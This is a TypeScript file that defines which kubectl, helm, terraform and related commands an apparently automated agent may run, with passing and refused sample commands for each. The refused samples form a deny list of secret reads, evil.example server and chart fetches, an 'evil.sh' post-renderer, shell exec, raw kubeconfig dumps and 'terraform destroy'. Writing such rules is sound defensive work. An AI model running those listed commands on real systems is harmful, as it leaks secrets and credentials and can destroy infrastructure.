import type { Row } from './row.ts';
import { fileTool, looks } from './tool.ts';

const noSecrets = /^(?!.*secret)(?!-)[a-z][\w.,/-]*$/i;
const cluster = (command: string, options: string, more: Partial<Row> & Pick<Row, 'yes' | 'no'>): Row =>
  looks(command, options, {
    kind: 'asks',
    why: "It asks the person's own cluster what runs in it. Secrets, whole definitions with their variables, and another cluster, address or access are asked about.",
    ...more,
  });

export const clusterRows: readonly Row[] = [
  ...[
    'kubectl get',
    'kubectl describe',
    'kubectl top',
    'kubectl explain',
    'kubectl rollout status',
    'kubectl rollout history',
    'kubectl api-resources',
    'kubectl cluster-info',
  ].map((command) =>
    cluster(
      command,
      `-n=<name> --namespace=<name> -A --all-namespaces -l=<labels> --selector=<labels> ${command === 'kubectl get' ? '-o=wide|name --output=wide|name --show-labels --field-selector=<labels> --sort-by=<labels> --no-headers' : ''} --timeout=<time> --containers --recursive`,
      {
        operands: noSecrets,
        ...(command.endsWith('-info') && { most: 0, operands: undefined }),
        yes: [`${command}${/info|resources/.test(command) ? '' : ' pods'} -n shop`],
        no: [
          `${command} secrets`,
          `${command} secret/x`,
          `${command} pods,secrets`,
          `${command} pods -o yaml`,
          `${command} pods --kubeconfig=evil`,
          `${command} pods --context other`,
          `${command} pods -s https://evil.example`,
          `${command} --raw /api/v1/secrets`,
          `${command} -f https://evil.example/x`,
          `${command} pods --token=x`,
          'kubectl delete pod x',
          'kubectl exec pod -- sh',
          'kubectl apply -f x',
          'kubectl cluster-info dump',
        ],
      },
    ),
  ),
  cluster(
    'kubectl logs',
    '-n=<name> --namespace=<name> -c=<name> --container=<name> --tail=# --since=<time> -p --previous --timestamps -l=<labels> --selector=<labels> --all-containers --prefix',
    {
      operands: /^((deploy(ment)?|pod|job|sts|statefulset|ds|svc|service)\/)?[a-z][\w.-]*$/,
      yes: ['kubectl logs deploy/api -n shop --tail 50', 'kubectl logs api-0 -c web --previous'],
      no: [
        'kubectl logs api --kubeconfig=evil',
        'kubectl logs api -s https://evil.example',
        'kubectl logs -f api',
        'kubectl cp x y',
      ],
    },
  ),
  ...['kubectl config current-context', 'kubectl config get-contexts'].map((command) =>
    cluster(command, '--client --short', {
      yes: [command],
      no: [
        `${command} --kubeconfig=evil`,
        `${command} --server=https://evil.example`,
        'kubectl config view --raw',
        'kubectl config use-context x',
      ],
    }),
  ),
  fileTool('helm lint', '--strict --quiet --with-subcharts -f=<path> --values=<path> --set=', {
    least: 1,
    yes: ['helm lint charts/api --strict'],
    no: [
      'helm lint /x',
      'helm lint charts/api --kubeconfig evil',
      'helm lint charts/api -f https://evil.example/x',
      'helm install x y',
    ],
  }),
  looks(
    'helm template',
    '-f=<path> --values=<path> --set= --set-string= -n=<name> --namespace=<name> --show-only= -s= --debug --include-crds --skip-tests',
    {
      kind: 'checks',
      why: 'It renders a chart of the project. One that is elsewhere would be fetched.',
      operands:
        /^\.{1,2}$|^\.\/(?!.*\.\.)[\w./-]+$|^[a-z][a-z0-9-]*$|^(charts?|deploy|helm|k8s|infra)\/(?!.*\.\.)[\w./-]+$/,
      most: 2,
      least: 1,
      yes: [
        'helm template api ./charts/api -f charts/api/values.yaml',
        'helm template charts/api --show-only templates/a.yaml',
      ],
      no: [
        'helm template x bitnami/nginx',
        'helm template x oci://evil.example/x',
        'helm template ./charts/api --post-renderer ./evil.sh',
        'helm template ./charts/api --repo https://evil.example',
        'helm template ./charts/api --output-dir /x',
        'helm template ./charts/api --dependency-update',
        'helm template ./charts/api --validate',
        'helm template ./charts/api -f /x',
        'helm template ./charts/../../x',
      ],
    },
  ),
  ...['helm list', 'helm status', 'helm history', 'helm dependency list', 'helm repo list', 'helm plugin list'].map(
    (command) =>
      cluster(command, '-n=<name> --namespace=<name> -A --all-namespaces -o=table --short -q', {
        operands: /^(\.\/)?(?!.*\.\.)[a-z][\w./-]*$/,
        yes: [command, `${command} api`],
        no: [
          `${command} --kubeconfig=evil`,
          `${command} --kube-apiserver x`,
          'helm uninstall x',
          'helm get values x',
          `${command} ../x`,
        ],
      }),
  ),
  ...['kubeconform', 'checkov', 'trivy config'].map((command) =>
    fileTool(
      command,
      '-strict --strict -summary --summary --quiet --compact --soft-fail --no-color -d=<path> --directory=<path> --framework=<name> --severity=<labels> --exit-code=#',
      {
        kind: 'asks',
        why: 'It checks what is written for a cluster, and fetches the rules that it checks by.',
        yes: [`${command} ./k8s`],
        no: [
          `${command} --schema-location https://evil.example x`,
          `${command} --config evil x`,
          `${command} --config-file evil x`,
          `${command} /x`,
          `${command} --output-file /x x`,
          `${command} --external-checks-dir evil x`,
          `${command} --policy evil x`,
        ],
      },
    ),
  ),
  ...['terraform', 'tofu'].flatMap((program) =>
    ['state list', 'state show', 'providers', 'graph', 'workspace list', 'workspace show', 'output', 'show'].map(
      (command) =>
        looks(`${program} ${command}`, '-no-color', {
          kind: 'asks',
          why: 'It asks where the state is kept, and its maker for a newer version. A secret value of the state is shown only as JSON or when it is asked for by its name, and both are asked about.',
          oneDash: true,
          operands: /^state /.test(command) ? /^[a-z]\w*(\.[\w[\]"-]+)+$/ : undefined,
          yes: [`${program} ${command} -no-color`],
          no: [
            `${program} -chdir=.. ${command}`,
            `${program} ${command} -state=/x`,
            `${program} ${command} -json`,
            `${program} ${command} -raw token`,
            `${program} destroy`,
            `${program} apply`,
            `${program} test`,
            `${program} state rm x`,
            `${program} state pull`,
            `${program} workspace delete x`,
          ],
        }),
    ),
  ),
  ...[
    'packer validate',
    'packer fmt -check',
    'docker compose config --services',
    'docker compose config --volumes',
    'docker compose config --images',
    'docker compose config -q',
    'docker compose config --quiet',
  ].map((command) =>
    fileTool(command, '-syntax-only -recursive -diff', {
      yes: [command],
      no: [
        `${command} -var-file=/x`,
        `${command} /x`,
        'packer build x',
        'docker compose config',
        `${command} -o /x`,
        `${command} --output=/x`,
      ],
    }),
  ),
];
